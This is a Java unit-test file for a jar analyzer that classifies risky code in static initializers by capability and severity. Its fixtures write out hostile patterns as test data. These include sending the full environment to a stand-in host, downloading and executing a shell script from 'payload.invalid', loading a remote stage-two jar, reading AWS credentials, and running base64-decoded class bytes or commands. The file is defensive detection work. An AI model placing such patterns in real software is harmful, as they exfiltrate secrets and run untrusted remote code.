package dev.gatehouse.analyzer.jvm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.fixtures.JarFixture;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each capability, seen from a static initializer, with its severity and the evidence a reviewer gets. */
class CapabilitiesTest {
  @TempDir Path tmp;

  /** The findings of a jar whose class {@code fixture.Boot} runs {@code body} in its static initializer. */
  private List<CodeFinding> staticInitializer(String body) throws Exception {
    return staticInitializer(body, "");
  }

  private List<CodeFinding> staticInitializer(String body, String members) throws Exception {
    Path jar = JarFixture.builder().javaSource("fixture/Boot", """
        package fixture;
        import java.io.*;
        import java.net.*;
        import java.nio.file.*;
        import java.util.*;
        public class Boot {
          static {
            try {
        %s
            } catch (Throwable ignored) { }
          }
        %s
        }
        """.formatted(body, members)).build(tmp);
    return JarAnalysis.of(jar).code();
  }

  private CodeFinding only(String body) throws Exception {
    List<CodeFinding> findings = staticInitializer(body);
    assertThat(findings).hasSize(1);
    return findings.get(0);
  }

  private CodeFinding only(String body, String members) throws Exception {
    List<CodeFinding> findings = staticInitializer(body, members);
    assertThat(findings).hasSize(1);
    return findings.get(0);
  }

  @Test
  void runtimeExecAndProcessBuilderAreProcessSpawns() throws Exception {
    for (String spawn : List.of("Runtime.getRuntime().exec(\"true\");", "new ProcessBuilder(\"true\").start();")) {
      CodeFinding f = only(spawn);
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
    }
  }

  @Test
  void socketsHttpClientsAndHttpConnectionsAreNetwork() throws Exception {
    List<String> calls = List.of(
        "new Socket(\"collector.invalid\", 443).close();",
        "java.nio.channels.SocketChannel.open(new InetSocketAddress(\"collector.invalid\", 443));",
        "java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder("
            + "URI.create(\"https://collector.invalid/\")).build(), java.net.http.HttpResponse.BodyHandlers.discarding());",
        "((HttpURLConnection) new URL(System.getProperty(\"u\")).openConnection()).getResponseCode();",
        "new URL(\"https://collector.invalid/beacon\").openStream().close();",
        "new DatagramSocket().send(new DatagramPacket(new byte[1], 1));");
    for (String call : calls) {
      assertThat(staticInitializer(call)).as(call).singleElement().satisfies(f -> {
        assertThat(f.capabilities()).contains(Capability.NETWORK);
        assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      });
    }
  }

  @Test
  void openingAClassPathResourceUrlIsNotNetwork() throws Exception {
    assertThat(staticInitializer("Boot.class.getResource(\"/table.txt\").openStream().close();")).isEmpty();
  }

  @Test
  void dnsLookupAloneIsLow() throws Exception {
    CodeFinding f = only("InetAddress.getByName(\"collector.invalid\");");
    assertThat(f.capabilities()).containsExactly(Capability.DNS);
    assertThat(f.severity()).isEqualTo(Severity.LOW);
    assertThat(f.evidence().excerpt()).isEqualTo("java/net/InetAddress.getByName");
  }

  @Test
  void readingOneEnvironmentVariableIsLowAndNamesTheVariable() throws Exception {
    CodeFinding f = only("String home = System.getenv(\"JAVA_HOME\");");
    assertThat(f.capabilities()).containsExactly(Capability.ENVIRONMENT_READ);
    assertThat(f.severity()).isEqualTo(Severity.LOW);
    assertThat(f.evidence().excerpt()).isEqualTo("java/lang/System.getenv(\"JAVA_HOME\")");
  }

  @Test
  void theWholeEnvironmentSentOverTheNetworkIsCritical() throws Exception {
    CodeFinding f = only("""
        try (Socket s = new Socket("collector.invalid", 443)) {
          s.getOutputStream().write(System.getenv().toString().getBytes());
        }
        """);
    assertThat(f.capabilities()).containsExactly(Capability.NETWORK, Capability.ENVIRONMENT_READ);
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void oneVariableAndTheNetworkIsNotHarvesting() throws Exception {
    CodeFinding f = only("""
        try (Socket s = new Socket(System.getenv("PROXY_HOST"), 443)) { s.getOutputStream().write(1); }
        """);
    assertThat(f.capabilities()).containsExactly(Capability.NETWORK, Capability.ENVIRONMENT_READ);
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
  }

  @Test
  void credentialPathBuiltInOneMethodAndReadInAnotherIsACredentialRead() throws Exception {
    CodeFinding f = only("byte[] key = Files.readAllBytes(keyFile());", """
          static Path keyFile() { return Paths.get(System.getProperty("user.home"), ".aws", "credentials"); }
        """);
    assertThat(f.capabilities()).containsExactly(Capability.CREDENTIAL_READ);
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(f.evidence().excerpt()).isEqualTo("ldc \".aws\"");
  }

  @Test
  void credentialFileNamedOnlyInAMessageIsNotARead() throws Exception {
    assertThat(staticInitializer("""
        if (System.getProperty("user.home") == null) {
          throw new IllegalStateException("put your key in ~/.ssh/id_rsa and try again");
        }
        Files.readAllBytes(Path.of("config.properties"));
        """)).isEmpty();
  }

  @Test
  void classDefinitionFromBytesIsDynamicCode() throws Exception {
    CodeFinding f = only("new Loader().define(new byte[] {1, 2, 3});", """
          static class Loader extends ClassLoader {
            Class<?> define(byte[] b) { return defineClass(null, b, 0, b.length); }
          }
        """);
    assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE);
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);

    CodeFinding lookup = only("java.lang.invoke.MethodHandles.lookup().defineClass(new byte[] {1, 2, 3});");
    assertThat(lookup.capabilities()).containsExactly(Capability.DYNAMIC_CODE);
    assertThat(lookup.evidence().excerpt()).isEqualTo("java/lang/invoke/MethodHandles$Lookup.defineClass");
  }

  @Test
  void urlClassLoaderOverARemoteUrlIsDynamicCode() throws Exception {
    CodeFinding f = only("""
        new URLClassLoader(new URL[] {new URL("https://payload.invalid/stage2.jar")}).loadClass("Stage2");
        """);
    assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE);
    assertThat(f.evidence().excerpt()).isEqualTo("java/net/URLClassLoader.<init> over a remote URL");
  }

  @Test
  void scriptEvaluationIsDynamicCode() throws Exception {
    CodeFinding f = only("""
        new javax.script.ScriptEngineManager().getEngineByName("js").eval(System.getProperty("x"));
        """);
    assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE);
    assertThat(f.evidence().excerpt()).isEqualTo("javax/script/ScriptEngine.eval");
  }

  @Test
  void jndiLookupOfAComputedNameIsDynamicCodeButTheContainerNamespaceIsNot() throws Exception {
    CodeFinding f = only("new javax.naming.InitialContext().lookup(System.getProperty(\"name\"));");
    assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE);
    assertThat(f.evidence().excerpt()).isEqualTo("javax/naming/InitialContext.lookup(computed name)");
    assertThat(staticInitializer("new javax.naming.InitialContext().lookup(\"java:comp/env/jdbc/main\");")).isEmpty();
  }

  @Test
  void reflectiveCallOfAComputedClassNameIsDynamicCodeButAConstantNameIsNot() throws Exception {
    CodeFinding f = only("""
        Class.forName(System.getProperty("impl")).getMethod("start").invoke(null);
        """);
    assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE);
    assertThat(f.evidence().excerpt())
        .isEqualTo("java/lang/Class.forName(computed name) + java/lang/reflect/Method.invoke");
    assertThat(staticInitializer("Class.forName(\"java.lang.Runtime\").getMethod(\"gc\").invoke(null);")).isEmpty();
  }

  @Test
  void base64PayloadDefinedAsAClassIsCritical() throws Exception {
    CodeFinding f = only("new Loader().define(Base64.getDecoder().decode(\"yv66vgAAADQ=\"));", """
          static class Loader extends ClassLoader {
            Class<?> define(byte[] b) { return defineClass(null, b, 0, b.length); }
          }
        """);
    assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE, Capability.ENCODED_PAYLOAD);
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(f.evidence().excerpt()).isEqualTo("decoded data into fixture/Boot$Loader.defineClass");
  }

  @Test
  void decodedClassNameGivenToReflectionIsCritical() throws Exception {
    CodeFinding f = only("""
        String name = new String(Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU="));
        Class.forName(name).getMethod("gc").invoke(null);
        """);
    assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE, Capability.ENCODED_PAYLOAD);
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void payloadDecodedByAHelperOrKeptInAFieldStillReachesTheLoader() throws Exception {
    String loader = """
          static class Loader extends ClassLoader {
            Class<?> define(byte[] b) { return defineClass(null, b, 0, b.length); }
          }
          static byte[] unpack(String s) { return Base64.getDecoder().decode(s); }
          static byte[] kept;
        """;
    assertThat(only("byte[] b = unpack(\"yv66vg==\"); new Loader().define(b);", loader).severity())
        .isEqualTo(Severity.CRITICAL);
    assertThat(only("Boot.kept = unpack(\"yv66vg==\"); new Loader().define(Boot.kept);", loader).severity())
        .isEqualTo(Severity.CRITICAL);
  }

  @Test
  void decodingDataThatNeverBecomesCodeIsNothing() throws Exception {
    assertThat(staticInitializer("""
        byte[] table = Base64.getDecoder().decode("AAECAwQ=");
        Class.forName("java.util.ArrayList");
        """)).isEmpty();
  }

  @Test
  void nativeLibraryLoadAloneIsLow() throws Exception {
    CodeFinding f = only("System.loadLibrary(\"boot\");");
    assertThat(f.capabilities()).containsExactly(Capability.NATIVE_LOAD);
    assertThat(f.severity()).isEqualTo(Severity.LOW);
  }

  @Test
  void writingUnderTheHomeFolderOrAnAbsoluteSystemPathIsAFilesystemWrite() throws Exception {
    CodeFinding home = only("""
        Files.writeString(Path.of(System.getProperty("user.home"), ".cache-boot"), "1", StandardOpenOption.APPEND);
        """);
    assertThat(home.capabilities()).containsExactly(Capability.FILESYSTEM_WRITE);
    assertThat(home.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(home.evidence().excerpt()).isEqualTo("java/nio/file/Files.writeString under the home folder");

    CodeFinding system = only("try (var out = new FileOutputStream(\"/tmp/stage2.sh\")) { out.write(1); }");
    assertThat(system.evidence().excerpt()).isEqualTo("java/io/FileOutputStream.<init> outside the working directory");
  }

  @Test
  void writingATempFileOrARelativePathIsNotAFilesystemWrite() throws Exception {
    assertThat(staticInitializer("""
        Files.write(Files.createTempFile("cache", ".bin"), new byte[1]);
        try (var out = new FileOutputStream("target/out.txt")) { out.write(1); }
        new File(System.getProperty("user.home"), ".cache/tool").mkdirs();
        Files.writeString(Path.of("report.txt"), "home is " + System.getProperty("user.home"));
        """)).isEmpty();
  }

  @Test
  void downloadAndRunIsHigh() throws Exception {
    CodeFinding f = only("""
        Files.copy(new URL("https://payload.invalid/x.sh").openStream(), Path.of("/tmp/x.sh"));
        Runtime.getRuntime().exec(new String[] {"sh", "/tmp/x.sh"});
        """);
    assertThat(f.capabilities())
        .containsExactly(Capability.PROCESS_SPAWN, Capability.NETWORK, Capability.FILESYSTEM_WRITE);
    assertThat(f.severity()).isEqualTo(Severity.HIGH);
  }

  @Test
  void decodedCommandGivenToAProcessIsAnEncodedPayload() throws Exception {
    CodeFinding f = only("""
        Runtime.getRuntime().exec(new String(Base64.getDecoder().decode("dHJ1ZQ==")));
        """);
    assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN, Capability.ENCODED_PAYLOAD);
    assertThat(f.severity()).isEqualTo(Severity.HIGH);
  }
}
